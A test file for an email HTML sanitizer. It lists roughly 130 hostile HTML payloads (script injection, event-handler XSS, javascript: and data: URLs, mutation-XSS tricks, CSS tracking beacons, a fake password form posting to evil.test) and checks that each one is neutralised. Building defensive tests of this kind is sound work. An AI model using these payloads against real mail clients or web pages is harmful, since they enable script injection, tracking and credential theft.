import { describe, expect, it } from "vitest";
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from "./mail-html-policy";
import { sanitizeMail } from "./sanitize-mail";

const clean = (html: string) => sanitizeMail(html, {}).html;

// Each is a way in which somebody tried to get code to run, a request to be made or a page to be faked.
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/x>alert(1)</script >",
  "<script>alert(1)",
  "<img src=x onerror=alert(1)>",
  '<img src="x"onerror="alert(1)">',
  "<img/src/onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
  "<p OnClIcK='alert(1)'>x</p>",
  "<body onload=alert(1)>x",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=https://evil.test/a onloadstart=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/api/logout">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x.test/1">x</a>',
  '<a href="https://x.test" target="_top" ping="https://evil.test" rel="opener" download>x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><image href="https://evil.test/x.png"/></svg>',
  '<svg><use href="data:image/svg+xml,x#y"/></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><a title="</style><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script><template><img src=x onerror=alert(1)></template></template>",
  "<!--><script>alert(1)</script>-->",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<!doctype html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test"></object>',
  '<embed src="https://evil.test">',
  "<applet code=x></applet>",
  '<base href="https://evil.test/">',
  '<base target="_parent">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<link rel="prefetch" href="https://evil.test/x">',
  '<form action="https://evil.test"><input name="password"><button>Se connecter</button></form>',
  '<input type="image" src="https://evil.test/x.png">',
  '<button formaction="javascript:alert(1)">x</button>',
  "<select><option>x</option></select>",
  '<img srcset="https://evil.test/1.png 1x">',
  '<picture><source srcset="https://evil.test/1.png"><img src="https://evil.test/2.png"></picture>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/png,<svg onload=alert(1)>">',
  '<img lowsrc="https://evil.test/1.png" dynsrc="https://evil.test/2">',
  '<img usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
  '<video poster="https://evil.test/x.png"></video>',
  '<table background="https://evil.test/x.png"><tr><td background="https://evil.test/y.png">x</td></tr></table>',
  '<body background="https://evil.test/x.png">x</body>',
  "<style>@import url(https://evil.test/x.css);</style>",
  '<p style="background:url(https://evil.test/x.png)">x</p>',
  '<p style="background-image:url(https://evil.test/x.png)">x</p>',
  '<p style="background:u\\72l(https://evil.test/x.png)">x</p>',
  "<p style=\"background:image-set('https://evil.test/x.png' 1x)\">x</p>",
  "<p style=\"background:-webkit-image-set('https://evil.test/x.png' 1x)\">x</p>",
  '<p style="--x:url(https://evil.test/x.png);background:var(--x)">x</p>',
  '<p style="background:/**/url(https://evil.test/x.png)">x</p>',
  '<p style="background:URL(https://evil.test/x.png)">x</p>',
  '<p style="list-style-image:url(https://evil.test/x.png)">x</p>',
  '<p style="list-style:url(https://evil.test/x.png)">x</p>',
  '<p style="content:url(https://evil.test/x.png)">x</p>',
  '<p style="cursor:url(https://evil.test/x.cur),auto">x</p>',
  '<p style="border-image:url(https://evil.test/x.png)">x</p>',
  '<p style="font-family:x;src:url(https://evil.test/x.woff)">x</p>',
  "<p style=\"@import 'https://evil.test'\">x</p>",
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>',
  '<p style="color:red;}body{background:url(https://evil.test)}">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<p style="pos\\69tion:fixed">x</p>',
  '<p style="position:absolute!important">x</p>',
  '<p style="transform:translate(-100px)">x</p>',
  '<p style="margin-top:-500px">x</p>',
  '<p style="margin:calc(0px - 500px)">x</p>',
  '<p style="animation:x 1s;transition:all 1s">x</p>',
  '<p style="display:flex">x</p>',
  '<p id="login" name="x" class="app-header" tabindex=1 accesskey=x contenteditable draggable autofocus>x</p>',
  "<p slot=x is=x part=x itemscope aria-hidden=true role=button data-x=1 popover>x</p>",
  '<p xmlns:x="x" xml:base="javascript:" x:href="y">x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  "<p title=`><script>alert(1)</script>`>x</p>",
  "<p/onclick=alert(1)//title=x>x</p>",
  "<p\u000conclick=alert(1)>x</p>",
  '<p "onclick=alert(1) x=">x</p>',
  "<<p>script>alert(1)<</p>/script>",
  "<p<script>alert(1)</script>>x</p>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "\uFEFF<script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<isindex action=javascript:alert(1) type=image>",
  "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
  "<plaintext><script>alert(1)</script>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<dialog open>Session expirée</dialog>",
  "<portal src=https://evil.test></portal>",
  "<a href='https://x.test'><a href='javascript:alert(1)'>x</a></a>",
  "</p></div></body></html><script>alert(1)</script>",
  `${"<div>".repeat(150)}<script>alert(1)</script><img src=x onerror=alert(1)>${"</div>".repeat(150)}`,
  `${"<b>".repeat(3_000)}<script>alert(1)</script>`,
];

describe("sanitizeMail leaves nothing that runs, loads, asks or covers in", () => {
  it.each(HOSTILE)("%s", (html) => {
    const sanitized = clean(html);
    expect(faultsOf(sanitized)).toEqual([]);
    // What is safe stays as it is: a second reading, as a browser does, finds the same.
    expect(clean(sanitized.replaceAll("data-remote-src", "src"))).toBe(sanitized);
  });
});

const OUTPUT_TAG = /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"]*")?)*)( \/)?>/g;
const ALLOWED_HREF = /^(https?:\/\/|mailto:|tel:)/i;
const FORBIDDEN_STYLE = /url|\(|\\|@|position|transform|animation|behavior|content|var|flex|z-index|-\d/i;

/** Reads sanitised HTML by its own, much simpler grammar: whatever does not fit it is a fault. */
function faultsOf(html: string): string[] {
  const faults: string[] = [];
  const rest = html.replace(OUTPUT_TAG, (_tag, end: string, name: string, attributes: string) => {
    if (!ALLOWED_TAGS.includes(name)) faults.push(`<${name}>`);
    if (end !== "" && attributes !== "") faults.push(`</${name} …>`);
    for (const [, attribute = "", value = ""] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      if (isFault(name, attribute, value)) faults.push(`${name} ${attribute}=${value}`);
    }
    return "";
  });
  if (/[<>]/.test(rest)) faults.push(rest);
  return faults;
}

function isFault(tag: string, attribute: string, value: string): boolean {
  if (![...(ALLOWED_ATTRIBUTES["*"] ?? []), ...(ALLOWED_ATTRIBUTES[tag] ?? [])].includes(attribute)) return true;
  if (attribute === "href") return !ALLOWED_HREF.test(value);
  if (attribute === "src") return !/^data:image\/(png|gif|jpeg|webp|bmp);base64,[\w+/=]*$/.test(value);
  if (attribute === "target") return value !== "_blank";
  if (attribute === "rel") return value !== "noopener noreferrer";
  return attribute === "style" && FORBIDDEN_STYLE.test(value);
}
